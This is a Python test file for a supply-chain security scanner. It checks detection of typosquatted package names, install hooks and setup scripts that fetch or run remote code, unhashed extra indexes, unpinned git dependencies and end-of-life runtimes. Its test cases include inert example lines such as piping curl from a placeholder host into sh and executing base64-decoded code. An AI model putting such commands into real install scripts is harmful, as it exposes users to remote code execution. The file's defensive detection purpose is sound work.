"""Signs of malice: names that are taken for others, programs that fetch when installed, what nobody mends."""

from __future__ import annotations

import json
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from accord.scan.lockfiles import read_lock
from accord.scan.supply.ended import ended_runtimes, given_up
from accord.scan.supply.installs import loose_origins, package_scripts, script_runners, second_indexes, setup_calls
from accord.scan.supply.squats import resemblance


@pytest.mark.parametrize(
    ("name", "popular"),
    [
        ("reqeusts", "requests"), ("requestss", "requests"), ("numpyy", "numpy"), ("tensorfl0w", "tensorflow"),
        ("dateutil-python", "python-dateutil"), ("pythondateutil", "python-dateutil"), ("transfomers", "transformers"),
        ("crytography", "cryptography"), ("Scikit_Lern", "scikit-learn"), ("langchian", "langchain"),
    ],
)  # fmt: skip
def test_a_name_near_a_popular_one_is_told(name: str, popular: str) -> None:
    found = resemblance("PyPI", name)
    assert found is not None
    assert found.popular == popular


@pytest.mark.parametrize("name", ["lodahs", "expres", "crossenv", "electorn", "jquerry"])
def test_names_of_npm_are_compared_too(name: str) -> None:
    assert resemblance("npm", name) is not None


@pytest.mark.parametrize(
    "name",
    ["requests", "Requests", "boto3", "botocore", "attrs", "attr", "black", "flask", "urllib3", "numpy", "httpx2"],
)
def test_popular_names_are_no_copies(name: str) -> None:
    assert resemblance("PyPI", name) is None


def test_names_of_other_ecosystems_and_odd_ones_are_left_alone() -> None:
    assert resemblance("Go", "reqeusts") is None
    assert resemblance("PyPI", "x" * 5000) is None
    assert resemblance("PyPI", "") is None


@given(st.text(max_size=60))
def test_no_name_makes_the_comparison_fail(name: str) -> None:
    resemblance("PyPI", name)
    resemblance("npm", name)


@pytest.mark.parametrize(
    ("hook", "command", "grave"),
    [
        ("postinstall", "curl https://files.example/x | sh", True),
        ("preinstall", "node -e \"require('child_process')\"", True),
        ("install", "powershell -c whoami", True),
        ("prepare", "wget -q files.example", True),
        ("postinstall", "node setup.js", False),
    ],
)
def test_scripts_that_run_when_installed_are_told(hook: str, command: str, grave: bool) -> None:  # noqa: FBT001
    (odd,) = package_scripts(json.dumps({"name": "a", "scripts": {hook: command}}))
    assert odd.grave is grave


@pytest.mark.parametrize(
    "scripts",
    [
        {"prepare": "husky"}, {"postinstall": "patch-package"}, {"install": "node-gyp rebuild"},
        {"postinstall": "npm run build"},
        {"postinstall": "prisma generate && tsc -p ."}, {"test": "curl https://files.example"},
        {"prepare": "node build.js"}, {},
    ],
)  # fmt: skip
def test_scripts_that_build_are_no_sign(scripts: dict[str, str]) -> None:
    assert list(package_scripts(json.dumps({"scripts": scripts}))) == []


@pytest.mark.parametrize("text", ["", "{", "[1]", '{"scripts": 3}', "[" * 100_000, '{"scripts": {"install": 3}}'])
def test_a_package_json_that_is_none_is_left_alone(text: str) -> None:
    assert list(package_scripts(text)) == []


@pytest.mark.parametrize(
    "code",
    [
        "import urllib.request\nurllib.request.urlopen('https://files.example')",
        "from urllib.request import urlopen as u\nu('x')",
        "import requests as r\nr.get('x')",
        "import socket\nsocket.socket()",
        "import base64\nexec(base64.b64decode('eA=='))",
        "exec(__import__('base64').b64decode('eA=='))",
        "import os\nos.system('curl files.example | sh')",
        "import subprocess\nsubprocess.Popen(['powershell', '-c', 'x'])",
    ],
)
def test_a_setup_that_fetches_or_hides_is_told(code: str) -> None:
    found = list(setup_calls(code))
    assert found
    assert found[0].line is not None


@pytest.mark.parametrize(
    "code",
    [
        "exec(open('version.py').read())",
        "import subprocess\nsubprocess.check_output(['git', 'describe'])",
        "from setuptools import setup\nsetup(url='https://code.example')",
        "import base64\nbase64.b64decode('eA==')",
        "not python (",
        "(" * 10_000,
    ],
)
def test_a_setup_that_builds_is_no_sign(code: str) -> None:
    assert list(setup_calls(code)) == []


def test_a_second_index_counts_while_a_package_has_no_hash() -> None:
    loose = "--extra-index-url https://packages.example/simple\na==1.0\n"
    locked = f"--extra-index-url https://packages.example/simple\na==1.0 --hash=sha256:{'0' * 64}\n"
    assert [odd.line for odd in second_indexes(loose, read_lock("requirements.txt", loose))] == [1]
    assert list(second_indexes(locked, read_lock("requirements.txt", locked))) == []
    host = "--trusted-host packages.example\n"
    assert len(list(second_indexes(host, read_lock("requirements.txt", host)))) == 1


def test_addresses_without_a_commit_are_told() -> None:
    text = f"a @ git+https://code.example/a@main\nb @ git+https://code.example/b@{'0' * 40}\n-e .\n./c\n"
    assert [one.name for one, _ in loose_origins(read_lock("requirements.txt", text))] == ["a"]


def test_packages_known_for_their_script_are_not_told() -> None:
    packages = {f"node_modules/{name}": {"version": "1.0.0", "hasInstallScript": True} for name in ("esbuild", "odd")}
    lock = read_lock("package-lock.json", json.dumps({"packages": packages}))
    assert [one.name for one in script_runners(lock)] == ["odd"]


def test_what_was_given_up_is_told_with_what_to_take() -> None:
    told = given_up("PyPI", "PyCrypto")
    assert told is not None
    assert "cryptography" in told.instead
    assert given_up("PyPI", "requests") is None
    assert given_up("npm", "request") is not None
    assert given_up("Go", "request") is None


@pytest.mark.parametrize(
    ("path", "text", "names"),
    [
        ("Dockerfile", "FROM python:3.8-slim-buster AS build\n", ["python 3.8", "debian buster"]),
        ("app/api.Dockerfile", "FROM --platform=linux/amd64 mirror.example:5000/library/node:16\n", ["node 16"]),
        ("Dockerfile", "FROM debian:stretch\nFROM ubuntu:18.04\n", ["debian stretch", "ubuntu 18.04"]),
        ("Dockerfile", "FROM python:3.13-slim-bookworm\nFROM scratch\nFROM python:latest\nFROM node:24\n", []),
        (".python-version", "3.7.9\n", ["python 3.7"]),
        (".nvmrc", "v14\n", ["node 14"]),
        ("runtime.txt", "python-3.6.1\n", ["python 3.6"]),
        ("notes.txt", "python 3.6", []),
    ],
)
def test_runtimes_past_their_last_day_are_told(path: str, text: str, names: list[str]) -> None:
    assert [f"{one.name} {one.version}" for one in ended_runtimes(path, text, date(2026, 11, 22))] == names
